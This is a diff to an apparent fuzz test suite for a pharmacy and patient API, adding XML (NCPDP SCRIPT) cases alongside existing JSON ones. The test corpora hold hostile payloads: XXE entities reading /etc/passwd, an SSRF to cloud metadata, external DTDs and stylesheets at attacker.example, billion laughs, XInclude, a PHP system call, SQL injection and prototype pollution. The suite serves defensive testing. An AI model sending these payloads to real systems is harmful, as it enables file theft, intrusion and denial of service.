@@ -25,7 +25,8 @@ import { hashToken } from '../../src/services/auth/logIn.js';
 import { testPracticeClient } from '../support/interopActors.js';
 import { startTestApi, TEST_PASSWORD, type StaffRole } from '../support/api.js';
 import { assertStatus, authorizeAndDispense, enrollPatient, pcngpVisit, requestAuthorization } from '../support/journeys.js';
-import { insertFeedback, insertMatchReview, insertOrder, ROUTES, routeName, urlOf, type RouteContext, type RouteSample } from '../support/routes.js';
+import { insertFeedback, insertMatchReview, insertOrder, payloadOf, refusalFormatProblem, sampleName, samplesOf, urlOf, type RouteContext, type RouteSample } from '../support/routes.js';
+import { registerInteropClient } from '../support/interopClients.js';
 
 const ON = '2025-03-10';
 /** fast-check's seed for the random mutations; a failure prints it with the counterexample. */
@@ -47,6 +48,9 @@ const CATEGORIES = [
   'oversized bodies',
   'credentials and headers',
   'random mutations (fast-check)',
+  'malformed XML',
+  'XML entities and DTDs',
+  'XML structure',
 ] as const;
 type Category = (typeof CATEGORIES)[number];
 
@@ -263,18 +267,22 @@ function operationsOf(document: OpenApiDocument): { operations: Operation[]; wit
   for (const [path, methods] of Object.entries(document.paths)) {
     for (const [method, operation] of Object.entries(methods)) {
       const name = `${method.toUpperCase()} ${path}`;
-      const sample = ROUTES.find((route) => routeName(route) === name);
-      if (sample === undefined) {
+      const samples = samplesOf(name);
+      if (samples.length === 0) {
         withoutSample.push(name);
         continue;
       }
-      operations.push({
-        name,
-        method: sample.method,
-        sample,
-        parameters: operation.parameters ?? [],
-        body: operation.requestBody?.content?.['application/json']?.schema ?? null,
-      });
+      for (const sample of samples) {
+        const content = operation.requestBody?.content ?? {};
+        operations.push({
+          name: sampleName(sample),
+          method: sample.method,
+          sample,
+          parameters: operation.parameters ?? [],
+          // An XML message is fuzzed as XML (xmlCases), whatever schema documents it.
+          body: sample.raw !== undefined ? null : (content[sample.contentType ?? 'application/json']?.schema ?? Object.values(content)[0]?.schema ?? null),
+        });
+      }
     }
   }
   return { operations, withoutSample };
@@ -326,7 +334,7 @@ function fieldsOf(schema: JsonSchema, value: unknown, path: Array<string | numbe
 // Requests
 
 /** Tables whose writes are not records: the audit trail and sessions (every request may touch them) and log-in attempts. */
-const NOT_RECORDS = ['audit_events', 'sessions', 'login_attempts', 'schema_migrations'];
+const NOT_RECORDS = ['audit_events', 'sessions', 'login_attempts', 'schema_migrations', 'interop_access_tokens', 'interop_assertion_ids'];
 /** Fields the server keeps in another form by design: a password is hashed, a CSV file is read into results. */
 const NOT_STORED_AS_SENT = new Set(['password', 'account/password', 'csv']);
 
@@ -426,6 +434,169 @@ function lighter(schema: JsonSchema | null, sample: Record<string, unknown> | nu
   return { light, dropped };
 }
 
+// ---------------------------------------------------------------------------------------------
+// XML messages (NCPDP SCRIPT): what an XML parser can be made to do, and every element's text.
+
+/** The text between two tags that holds more than white space: where a message carries its values. */
+function textNodes(message: string): Array<{ start: number; end: number; text: string }> {
+  const nodes: Array<{ start: number; end: number; text: string }> = [];
+  for (const match of message.matchAll(/>([^<>]*[^<>\s][^<>]*)</g)) {
+    const start = (match.index ?? 0) + 1;
+    nodes.push({ start, end: start + (match[1] ?? '').length, text: match[1] ?? '' });
+  }
+  return nodes;
+}
+
+function withText(message: string, node: { start: number; end: number }, text: string): string {
+  return `${message.slice(0, node.start)}${text}${message.slice(node.end)}`;
+}
+
+function escapedXml(text: string): string {
+  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+}
+
+/** The explicit XML corpora for a message: malformed, entity tricks, odd structure, every value replaced. */
+function xmlCases(sample: string, contentType: string): FuzzCase[] {
+  const cases: FuzzCase[] = [];
+  const prolog = /^\s*<\?xml[^>]*\?>\s*/.exec(sample)?.[0] ?? '';
+  const document = sample.slice(prolog.length);
+  const root = /<([A-Za-z_][\w.:-]*)/.exec(document)?.[1] ?? 'Message';
+  const nodes = textNodes(sample);
+  const first = nodes[0];
+  /** The message with a document type declaration, and `reference` as its first value. */
+  const declaring = (declaration: string, reference: string): string => {
+    const valued = first === undefined ? sample : withText(sample, first, reference);
+    return `${prolog}<!DOCTYPE ${root} [${declaration}]>${valued.slice(prolog.length)}`;
+  };
+  const closing = sample.lastIndexOf('</');
+
+  for (const [label, payload] of [
+    ['empty', ''],
+    ['a space', ' '],
+    ['a lone <', '<'],
+    ['<>', '<>'],
+    ['only a closing tag', `</${root}>`],
+    ['only an opening tag', `<${root}>`],
+    ['only the prolog', '<?xml version="1.0"?>'],
+    ['cut in half', sample.slice(0, Math.floor(sample.length / 2))],
+    ['without its last closing tag', closing > 0 ? sample.slice(0, closing) : sample.slice(0, -1)],
+    ['a mismatched closing tag', sample.replace(/<\/(\w[\w.:-]*)>/, '</Mismatched>')],
+    ['two root elements', `${sample}${document}`],
+    ['text after the root', `${sample}trailing`],
+    ['a BOM', `\ufeff${sample}`],
+    ['not XML at all', 'this is not XML'],
+    ['a NUL', '\u0000'],
+    ['a NUL in a value', first === undefined ? `${sample}\u0000` : withText(sample, first, 'a\u0000b')],
+    ['a bare & in a value', first === undefined ? `${sample}&` : withText(sample, first, 'AT&T')],
+    ['a bare < in a value', first === undefined ? `${sample}<` : withText(sample, first, 'a < b')],
+    ['an unquoted attribute', `${prolog}<${root} a=b>${document.slice(document.indexOf('>') + 1)}`],
+    ['an unclosed comment', `${sample}<!-- unclosed`],
+    ['an unclosed CDATA', first === undefined ? `${sample}<![CDATA[` : withText(sample, first, '<![CDATA[ unclosed')],
+    ['JSON with the XML content type', '{"Message":{"Body":{}}}'],
+    ['a lone surrogate in a value', first === undefined ? `${sample}\ud800` : withText(sample, first, 'x\ud800y')],
+  ] as const) {
+    cases.push({ category: 'malformed XML', label, payload });
+  }
+
+  const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`)].join('');
+  for (const [label, declaration, reference] of [
+    ['external entity: a file (XXE)', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;'],
+    ['external entity: a URL (SSRF)', '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">', '&xxe;'],
+    ['external entity: a PHP filter', '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">', '&xxe;'],
+    ['a parameter entity from a URL', '<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;', 'x'],
+    ['billion laughs', laughs, '&lol9;'],
+    ['quadratic blow-up', `<!ENTITY big "${'a'.repeat(20_000)}">`, '&big;'.repeat(40)],
+    ['a recursive entity', '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'],
+    ['an internal entity', '<!ENTITY name "Spoofed">', '&name;'],
+  ] as const) {
+    cases.push({ category: 'XML entities and DTDs', label, payload: declaring(declaration, reference) });
+  }
+  for (const [label, reference] of [
+    ['an undefined entity', '&undefined;'],
+    ['a NUL character reference', '&#0;'],
+    ['a surrogate character reference', '&#xD800;'],
+    ['a character reference past Unicode', '&#x110000;'],
+    ['a huge character reference', '&#99999999999999999999;'],
+  ] as const) {
+    cases.push({ category: 'XML entities and DTDs', label, payload: first === undefined ? `${sample}${reference}` : withText(sample, first, reference) });
+  }
+  cases.push({ category: 'XML entities and DTDs', label: 'an external DTD', payload: `${prolog}<!DOCTYPE ${root} SYSTEM "http://attacker.example/evil.dtd">${document}` });
+  cases.push({
+    category: 'XML entities and DTDs',
+    label: 'XInclude of a file',
+    payload: first === undefined ? sample : withText(sample, first, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
+  });
+  cases.push({ category: 'XML entities and DTDs', label: 'a stylesheet instruction', payload: `${prolog}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>${document}` });
+
+  for (const [label, payload] of [
+    ['another root element', `${prolog}<Unexpected>${document}</Unexpected>`],
+    ['an empty root', `${prolog}<${root}/>`],
+    ['a foreign default namespace', `${prolog}${document.replace(`<${root}`, `<${root} xmlns="urn:attacker:evil"`)}`],
+    ['10,000 nested elements', `${prolog}<${root}>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</${root}>`],
+    ['100,000 sibling elements', `${prolog}<${root}>${'<a/>'.repeat(100_000)}</${root}>`],
+    ['10,000 attributes', `${prolog}<${root} ${Array.from({ length: 10_000 }, (_, index) => `a${index}="1"`).join(' ')}>${document.slice(document.indexOf('>') + 1)}`],
+    ['an element name of 100,000 characters', `${prolog}<${root}><${'n'.repeat(100_000)}/></${root}>`],
+    ['a processing instruction in a value', first === undefined ? sample : withText(sample, first, "<?php system('id'); ?>")],
+    ['a value in CDATA', first === undefined ? sample : withText(sample, first, `<![CDATA[${first.text}]]>`)],
+    ['a comment in a value', first === undefined ? sample : withText(sample, first, `${first.text}<!-- comment -->`)],
+    ['every element twice', sample.replace(/(<(\w[\w.:-]*)[^>]*>[^<]*<\/\2>)/g, '$1$1')],
+  ] as const) {
+    cases.push({ category: 'XML structure', label, payload });
+  }
+  for (const [label, type] of [
+    ['JSON content type', 'application/json'],
+    ['FHIR JSON content type', 'application/fhir+json'],
+    ['text/plain', 'text/plain'],
+    ['no content type', null],
+    ['UTF-16 declared', `${contentType}; charset=utf-16`],
+    ['text/xml', 'text/xml'],
+    ['SOAP', 'application/soap+xml'],
+  ] as const) {
+    cases.push({ category: 'content types', label, contentType: type, payload: sample });
+  }
+  cases.push({ category: 'oversized bodies', label: '10 MB XML', payload: `${prolog}<${root}><!--${'x'.repeat(10 * 1024 * 1024)}-->${document.slice(document.indexOf('>') + 1)}` });
+  cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: `${sample}<!--${'x'.repeat(1024 * 1024 - sample.length - 100)}-->` });
+
+  // Every value of the message, one at a time: hostile text (escaped, as a sender would), numbers and dates.
+  nodes.forEach((node, index) => {
+    const at = `value ${index + 1} (${node.text.length > 20 ? `${node.text.slice(0, 20)}…` : node.text})`;
+    for (const value of [...HOSTILE_SAMPLE, 'x'.repeat(10_000), '']) {
+      cases.push({ category: 'hostile strings', label: `${at} = ${describeValue(value)}`, payload: withText(sample, node, escapedXml(value)) });
+    }
+    for (const value of NUMBER_TOKENS.slice(0, 8)) {
+      cases.push({ category: 'numbers', label: `${at} = ${value}`, payload: withText(sample, node, escapedXml(value)) });
+    }
+    for (const value of INVALID_DATES.slice(0, 8)) {
+      cases.push({ category: 'invalid dates', label: `${at} = ${describeValue(value)}`, payload: withText(sample, node, escapedXml(value)) });
+    }
+  });
+  return cases;
+}
+
+/** Random changes of an XML message's values, escaped (well-formed) or as they are (perhaps not). */
+function randomXmlCase(sample: string, url: string): fc.Arbitrary<FuzzCase> {
+  const nodes = textNodes(sample);
+  return fc
+    .record({
+      changes: fc.array(fc.record({ node: fc.nat({ max: Math.max(0, nodes.length - 1) }), value: fc.oneof(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 })), escaped: fc.boolean() }), { minLength: 1, maxLength: 3 }),
+    })
+    .map(({ changes }) => {
+      // From the last value to the first, so earlier positions stay right.
+      const ordered = [...new Map(changes.map((change) => [change.node, change])).values()].sort((a, b) => b.node - a.node);
+      let payload = sample;
+      for (const change of ordered) {
+        const node = nodes[change.node];
+        payload = node === undefined ? `${payload}${change.value}` : withText(payload, node, change.escaped ? escapedXml(change.value) : change.value);
+      }
+      return {
+        category: 'random mutations (fast-check)' as const,
+        label: describeValue(ordered.map((change) => [change.node, change.escaped ? 'escaped' : 'raw', describeValue(change.value)])),
+        url,
+        payload,
+      };
+    });
+}
+
 /** The explicit corpora for one operation. */
 function casesFor(operation: Operation, fullSample: Record<string, unknown> | null, ctx: RouteContext): FuzzCase[] {
   const cases: FuzzCase[] = [];
@@ -433,161 +604,167 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
   const json = sample === null ? null : serialize(sample);
   const url = urlOf(operation.sample, ctx);
 
-  // Bodies: sent to every operation, those without a body schema too (they must ignore or refuse them).
-  const base = json ?? '{}';
-  for (const payload of [
-    '{',
-    '}',
-    '{"a":',
-    base.replace(/}$/, ',}'),
-    base.slice(0, Math.floor(base.length / 2)),
-    "{'kind':'general'}",
-    '{kind:1}',
-    `${base}${base}`,
-    '{"a":NaN}',
-    '{"a":Infinity}',
-    '{"a":undefined}',
-    `// comment\n${base}`,
-    `\ufeff${base}`,
-    '{"a":"\u0000"}',
-    '{"a":"\n"}',
-    '{"a":01}',
-    '[1,2',
-    '"unterminated',
-    'nul',
-    '',
-    ' ',
-    '\u0000',
-  ]) {
-    cases.push({ category: 'malformed JSON', label: describeValue(payload), payload });
-  }
-  for (const payload of [
-    '[]',
-    `[${base}]`,
-    '"text"',
-    '7',
-    '-0',
-    'null',
-    'true',
-    '{}',
-    '[[[[]]]]',
-    JSON.stringify(Array.from({ length: 100_000 }, (_, index) => index)),
-    `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
-    `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
-  ]) {
-    cases.push({ category: 'body of the wrong type', label: describeValue(payload), payload });
-  }
-  for (const [label, contentType, payload] of [
-    ['text/plain', 'text/plain', base],
-    ['form', 'application/x-www-form-urlencoded', new URLSearchParams(Object.entries(sample ?? {}).map(([key, value]) => [key, String(value)])).toString()],
-    ['multipart', 'multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${base}\r\n--x--`],
-    ['XML', 'application/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
-    ['text/xml', 'text/xml', '<a/>'],
-    ['HTML', 'text/html', '<script>alert(1)</script>'],
-    ['octet-stream', 'application/octet-stream', base],
-    ['no content type', null, base],
-    ['empty content type', '', base],
-    ['JSON in UTF-16', 'application/json; charset=utf-16', base],
-    ['JSON in Latin-1', 'application/json; charset=iso-8859-1', base],
-    ['JSON, upper case', 'APPLICATION/JSON', base],
-    ['JSON with a boundary', 'application/json; boundary=x', base],
-    ['JSON:API', 'application/vnd.api+json', base],
-    ['problem+json', 'application/problem+json', base],
-    ['JSON sequence', 'application/json-seq', `\u001e${base}\n`],
-    ['any', '*/*', base],
-    ['two types', 'application/json, text/plain', base],
-  ] as const) {
-    cases.push({ category: 'content types', label, contentType, payload });
-  }
-  const tenMegabytes = JSON.stringify({ ...sample, padding: 'x'.repeat(10 * 1024 * 1024) });
-  cases.push({ category: 'oversized bodies', label: '10 MB JSON', payload: tenMegabytes });
-  cases.push({ category: 'oversized bodies', label: '10 MB text/plain', contentType: 'text/plain', payload: 'x'.repeat(10 * 1024 * 1024) });
-  cases.push({ category: 'oversized bodies', label: '1 MiB + 1 byte', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024) }) });
-  cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024 - base.length - 100) }) });
-
-  if (sample !== null && fullSample !== null && operation.body !== null) {
-    const fields = fieldsOf(operation.body, fullSample);
-    const required = operation.body.required ?? [];
-    const firstKey = Object.keys(sample)[0] ?? 'a';
-    // Keys: unknown, duplicated, prototype pollution, hostile names, missing.
-    const keyCases: Array<[string, string]> = [
-      ['an unknown field', serialize({ ...sample, unexpected: 'x' })],
-      ['__proto__', `{"__proto__":{"admin":true},${base.slice(1)}`],
-      ['constructor.prototype', `{"constructor":{"prototype":{"admin":true}},${base.slice(1)}`],
-      ['__proto__ nested', serialize({ ...sample, nested: new RawJson('{"__proto__":{"admin":true}}') })],
-      [`${firstKey} twice (hostile second)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(HOSTILE_TEXT[0])}}`],
-      [`${firstKey} twice (same value)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(sample[firstKey])}}`],
-      ['an SQL key', serialize({ ...sample, "'; DROP TABLE patients; --": 1 })],
-      ['a script key', serialize({ ...sample, '<script>alert(1)</script>': 1 })],
-      ['an empty key', serialize({ ...sample, '': 1 })],
-      ['a NUL key', serialize({ ...sample, 'a\u0000b': 1 })],
-      ['a long key', serialize({ ...sample, ['k'.repeat(100_000)]: 1 })],
-      ['no fields', '{}'],
-      ...required.map((key): [string, string] => [`without ${key}`, serialize(without(sample, key))]),
-    ];
-    for (const [label, payload] of keyCases) {
-      cases.push({ category: 'keys', label, payload });
+  if (operation.sample.raw !== undefined) {
+    // An XML message (NCPDP SCRIPT): broken XML, entities and DTDs, hostile text in every element.
+    cases.push(...xmlCases(operation.sample.raw(ctx), operation.sample.contentType ?? 'application/xml'));
+  } else {
+    // Bodies: sent to every operation, those without a body schema too (they must ignore or refuse them).
+    const base = json ?? '{}';
+    for (const payload of [
+      '{',
+      '}',
+      '{"a":',
+      base.replace(/}$/, ',}'),
+      base.slice(0, Math.floor(base.length / 2)),
+      "{'kind':'general'}",
+      '{kind:1}',
+      `${base}${base}`,
+      '{"a":NaN}',
+      '{"a":Infinity}',
+      '{"a":undefined}',
+      `// comment\n${base}`,
+      `\ufeff${base}`,
+      '{"a":"\u0000"}',
+      '{"a":"\n"}',
+      '{"a":01}',
+      '[1,2',
+      '"unterminated',
+      'nul',
+      '',
+      ' ',
+      '\u0000',
+    ]) {
+      cases.push({ category: 'malformed JSON', label: describeValue(payload), payload });
     }
+    for (const payload of [
+      '[]',
+      `[${base}]`,
+      '"text"',
+      '7',
+      '-0',
+      'null',
+      'true',
+      '{}',
+      '[[[[]]]]',
+      JSON.stringify(Array.from({ length: 100_000 }, (_, index) => index)),
+      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
+      `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
+    ]) {
+      cases.push({ category: 'body of the wrong type', label: describeValue(payload), payload });
+    }
+    for (const [label, contentType, payload] of [
+      ['text/plain', 'text/plain', base],
+      ['form', 'application/x-www-form-urlencoded', new URLSearchParams(Object.entries(sample ?? {}).map(([key, value]) => [key, String(value)])).toString()],
+      ['multipart', 'multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${base}\r\n--x--`],
+      ['XML', 'application/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
+      ['text/xml', 'text/xml', '<a/>'],
+      ['HTML', 'text/html', '<script>alert(1)</script>'],
+      ['octet-stream', 'application/octet-stream', base],
+      ['no content type', null, base],
+      ['empty content type', '', base],
+      ['JSON in UTF-16', 'application/json; charset=utf-16', base],
+      ['JSON in Latin-1', 'application/json; charset=iso-8859-1', base],
+      ['JSON, upper case', 'APPLICATION/JSON', base],
+      ['JSON with a boundary', 'application/json; boundary=x', base],
+      ['JSON:API', 'application/vnd.api+json', base],
+      ['problem+json', 'application/problem+json', base],
+      ['JSON sequence', 'application/json-seq', `\u001e${base}\n`],
+      ['any', '*/*', base],
+      ['two types', 'application/json, text/plain', base],
+    ] as const) {
+      cases.push({ category: 'content types', label, contentType, payload });
+    }
+    const tenMegabytes = JSON.stringify({ ...sample, padding: 'x'.repeat(10 * 1024 * 1024) });
+    cases.push({ category: 'oversized bodies', label: '10 MB JSON', payload: tenMegabytes });
+    cases.push({ category: 'oversized bodies', label: '10 MB text/plain', contentType: 'text/plain', payload: 'x'.repeat(10 * 1024 * 1024) });
+    cases.push({ category: 'oversized bodies', label: '1 MiB + 1 byte', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024) }) });
+    cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024 - base.length - 100) }) });
 
-    for (const field of fields) {
-      const around = dropped.has(String(field.path[0])) ? fullSample : sample;
-      const at = (value: unknown): string => serialize(withValue(around, field.path, value));
-      const plant = (category: Category, value: unknown, label = describeValue(value)): void => {
-        cases.push({
-          category,
-          label: `${field.name} = ${label}`,
-          payload: at(value),
-          planted: typeof value === 'string' ? [{ field: field.name, value }] : [],
-        });
-      };
-      for (const value of WRONG_TYPES) {
-        plant('fields of the wrong type', value);
+    if (sample !== null && fullSample !== null && operation.body !== null) {
+      const fields = fieldsOf(operation.body, fullSample);
+      const required = operation.body.required ?? [];
+      const firstKey = Object.keys(sample)[0] ?? 'a';
+      // Keys: unknown, duplicated, prototype pollution, hostile names, missing.
+      const keyCases: Array<[string, string]> = [
+        ['an unknown field', serialize({ ...sample, unexpected: 'x' })],
+        ['__proto__', `{"__proto__":{"admin":true},${base.slice(1)}`],
+        ['constructor.prototype', `{"constructor":{"prototype":{"admin":true}},${base.slice(1)}`],
+        ['__proto__ nested', serialize({ ...sample, nested: new RawJson('{"__proto__":{"admin":true}}') })],
+        [`${firstKey} twice (hostile second)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(HOSTILE_TEXT[0])}}`],
+        [`${firstKey} twice (same value)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(sample[firstKey])}}`],
+        ['an SQL key', serialize({ ...sample, "'; DROP TABLE patients; --": 1 })],
+        ['a script key', serialize({ ...sample, '<script>alert(1)</script>': 1 })],
+        ['an empty key', serialize({ ...sample, '': 1 })],
+        ['a NUL key', serialize({ ...sample, 'a\u0000b': 1 })],
+        ['a long key', serialize({ ...sample, ['k'.repeat(100_000)]: 1 })],
+        ['no fields', '{}'],
+        ...required.map((key): [string, string] => [`without ${key}`, serialize(without(sample, key))]),
+      ];
+      for (const [label, payload] of keyCases) {
+        cases.push({ category: 'keys', label, payload });
       }
-      const stringy = ['text', 'email', 'uuid', 'choice', 'date'].includes(field.kind);
-      // Every hostile text where free text is taken (a password is only hashed: a slow hash each, so the shorter list).
-      const freeText = (field.kind === 'text' || field.kind === 'email') && !NOT_STORED_AS_SENT.has(field.name);
-      const texts = freeText ? HOSTILE_TEXT : stringy ? HOSTILE_SAMPLE : HOSTILE_SAMPLE.slice(0, 3);
-      for (const value of texts) {
-        plant('hostile strings', value);
-      }
-      if (field.kind === 'text' || field.kind === 'email') {
-        const { minLength = 0, maxLength } = field.schema;
-        if (maxLength !== undefined) {
-          plant('hostile strings', `${"'; --<script>".repeat(Math.ceil(maxLength / 13))}`.slice(0, maxLength), `${maxLength} characters (the maximum)`);
-          plant('hostile strings', 'y'.repeat(maxLength + 1), `${maxLength + 1} characters (one over)`);
+
+      for (const field of fields) {
+        const around = dropped.has(String(field.path[0])) ? fullSample : sample;
+        const at = (value: unknown): string => serialize(withValue(around, field.path, value));
+        const plant = (category: Category, value: unknown, label = describeValue(value)): void => {
+          cases.push({
+            category,
+            label: `${field.name} = ${label}`,
+            payload: at(value),
+            planted: typeof value === 'string' ? [{ field: field.name, value }] : [],
+          });
+        };
+        for (const value of WRONG_TYPES) {
+          plant('fields of the wrong type', value);
         }
-        if (minLength > 0) {
-          plant('hostile strings', 'y'.repeat(minLength - 1), `${minLength - 1} characters (one under)`);
-        }
-      }
-      if (field.kind === 'email') {
-        for (const value of ['a@b', 'x@x.example\u0000', '"<script>"@x.example', "o'hara@test.example", 'x@[127.0.0.1]', `${'a'.repeat(64)}@${'b'.repeat(190)}.example`]) {
+        const stringy = ['text', 'email', 'uuid', 'choice', 'date'].includes(field.kind);
+        // Every hostile text where free text is taken (a password is only hashed: a slow hash each, so the shorter list).
+        const freeText = (field.kind === 'text' || field.kind === 'email') && !NOT_STORED_AS_SENT.has(field.name);
+        const texts = freeText ? HOSTILE_TEXT : stringy ? HOSTILE_SAMPLE : HOSTILE_SAMPLE.slice(0, 3);
+        for (const value of texts) {
           plant('hostile strings', value);
         }
-      }
-      const numbers = field.kind === 'integer' || field.kind === 'number' ? NUMBER_TOKENS : NUMBER_TOKENS.slice(0, 4);
-      for (const token of numbers) {
-        plant('numbers', new RawJson(token));
-      }
-      const dates = field.kind === 'date' ? [...INVALID_DATES, ...EDGE_DATES] : INVALID_DATES.slice(0, 3);
-      for (const value of dates) {
-        plant('invalid dates', value);
-      }
-      const shapes: unknown[] = [deepArray(1_000), deepObject(1_000), new RawJson(`{"__proto__":${JSON.stringify(sample)}}`)];
-      const current = valueAt(around, field.path);
-      if (field.kind === 'array') {
-        shapes.push({ 0: Array.isArray(current) ? current[0] : 'x' }, Array.from({ length: 10_000 }, () => (Array.isArray(current) ? current[0] : 'x')), [current], [null]);
-      }
-      if (field.kind === 'object') {
-        shapes.push([current], [], 'object');
-      }
-      if (field.kind !== 'array' && field.kind !== 'object') {
-        shapes.push([current], { value: current });
-      }
-      for (const value of shapes) {
-        plant('shapes and nesting', value);
+        if (field.kind === 'text' || field.kind === 'email') {
+          const { minLength = 0, maxLength } = field.schema;
+          if (maxLength !== undefined) {
+            plant('hostile strings', `${"'; --<script>".repeat(Math.ceil(maxLength / 13))}`.slice(0, maxLength), `${maxLength} characters (the maximum)`);
+            plant('hostile strings', 'y'.repeat(maxLength + 1), `${maxLength + 1} characters (one over)`);
+          }
+          if (minLength > 0) {
+            plant('hostile strings', 'y'.repeat(minLength - 1), `${minLength - 1} characters (one under)`);
+          }
+        }
+        if (field.kind === 'email') {
+          for (const value of ['a@b', 'x@x.example\u0000', '"<script>"@x.example', "o'hara@test.example", 'x@[127.0.0.1]', `${'a'.repeat(64)}@${'b'.repeat(190)}.example`]) {
+            plant('hostile strings', value);
+          }
+        }
+        const numbers = field.kind === 'integer' || field.kind === 'number' ? NUMBER_TOKENS : NUMBER_TOKENS.slice(0, 4);
+        for (const token of numbers) {
+          plant('numbers', new RawJson(token));
+        }
+        const dates = field.kind === 'date' ? [...INVALID_DATES, ...EDGE_DATES] : INVALID_DATES.slice(0, 3);
+        for (const value of dates) {
+          plant('invalid dates', value);
+        }
+        const shapes: unknown[] = [deepArray(1_000), deepObject(1_000), new RawJson(`{"__proto__":${JSON.stringify(sample)}}`)];
+        const current = valueAt(around, field.path);
+        if (field.kind === 'array') {
+          shapes.push({ 0: Array.isArray(current) ? current[0] : 'x' }, Array.from({ length: 10_000 }, () => (Array.isArray(current) ? current[0] : 'x')), [current], [null]);
+        }
+        if (field.kind === 'object') {
+          shapes.push([current], [], 'object');
+        }
+        if (field.kind !== 'array' && field.kind !== 'object') {
+          shapes.push([current], { value: current });
+        }
+        for (const value of shapes) {
+          plant('shapes and nesting', value);
+        }
       }
     }
+
   }
 
   // Path parameters, one at a time, the others left valid.
@@ -601,8 +778,8 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
   const withQuery = (query: string): string => `${pathPart}?${query}`;
   for (const [label, changed] of [
     ['trailing slash', `${pathPart}/`],
-    ['double slash', pathPart.replace('/api/v1/', '/api/v1//')],
-    ['encoded slash', pathPart.replace('/api/v1/', '/api%2Fv1/')],
+    ['double slash', pathPart.startsWith('/api/v1/') ? pathPart.replace('/api/v1/', '/api/v1//') : pathPart.replace(/^(\/[^/]+)\//, '$1//')],
+    ['encoded slash', pathPart.startsWith('/api/v1/') ? pathPart.replace('/api/v1/', '/api%2Fv1/') : pathPart.replace(/^(\/[^/]+)\//, '$1%2F')],
     ['upper case', pathPart.toUpperCase()],
     ['dot segments', `${pathPart}/../../..`],
     ['a NUL byte', `${pathPart}%00`],
@@ -662,7 +839,11 @@ function casesFor(operation: Operation, fullSample: Record<string, unknown> | nu
       cases.push({ category: 'credentials and headers', label, credentials });
     }
     // The same session as a cookie: a request that changes something must also carry the CSRF header.
+    // (On an interop route: a person's session cookie, which never opens a machine's door.)
     cases.push({ category: 'credentials and headers', label: 'the session as a cookie, without the CSRF header', sessionAsCookie: true });
+    if (operation.sample.client !== undefined) {
+      cases.push({ category: 'credentials and headers', label: "a person's session as the bearer token", credentials: { authorization: `Bearer ${STAFF_SESSION_MARK}` } });
+    }
   }
   if (operation.method !== 'GET') {
     // Sent to every operation; kept (verbatim) only by those that declare the header.
@@ -704,6 +885,9 @@ interface Mutation {
 
 function randomCase(operation: Operation, fullSample: Record<string, unknown> | null, ctx: RouteContext): fc.Arbitrary<FuzzCase> {
   const url = urlOf(operation.sample, ctx);
+  if (operation.sample.raw !== undefined) {
+    return randomXmlCase(operation.sample.raw(ctx), url);
+  }
   const { light: sample } = lighter(operation.body, fullSample);
   const targets = fullSample === null || operation.body === null ? [] : fieldsOf(operation.body, fullSample).map((field) => field.path);
   const mutation: fc.Arbitrary<Mutation> = fc.record({
@@ -755,6 +939,8 @@ function randomCase(operation: Operation, fullSample: Record<string, unknown> | 
 
 /** Who normally uses each operation, so a request gets past access checks into validation and logic. */
 function usualCaller(operation: Operation): Caller {
+  // An interop route: a registered client of its kind, with its access token.
+  if (operation.sample.client !== undefined) return operation.sample.client === 'practice' ? 'practiceClient' : 'pharmacyClient';
   // What the patient alone writes: orders, their cancellation, messages and ratings.
   if (operation.method === 'POST' && operation.sample.path.startsWith('/api/v1/patients/{patientId}/orders')) return 'patient';
   if (/\/(users|organizations|audit)/.test(operation.sample.path)) return 'admin';
@@ -788,8 +974,11 @@ function stringsIn(value: unknown, found: Set<string> = new Set()): Set<string> 
   return found;
 }
 
-/** Staff, or the patient of the operation's own record (logged in as themself). */
-type Caller = StaffRole | 'patient';
+/** Staff, the patient of the operation's own record (logged in as themself), or a client system. */
+type Caller = StaffRole | 'patient' | 'practiceClient' | 'pharmacyClient';
+
+/** Stands for a staff session's token in a case's credentials (the sessions are made in before()). */
+const STAFF_SESSION_MARK = 'STAFF-SESSION-TOKEN';
 
 const api = await startTestApi();
 const openApi = (await api.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as OpenApiDocument;
@@ -798,6 +987,8 @@ const { operations, withoutSample } = operationsOf(openApi);
 describe('fuzzing every operation of the OpenAPI document with bad input', () => {
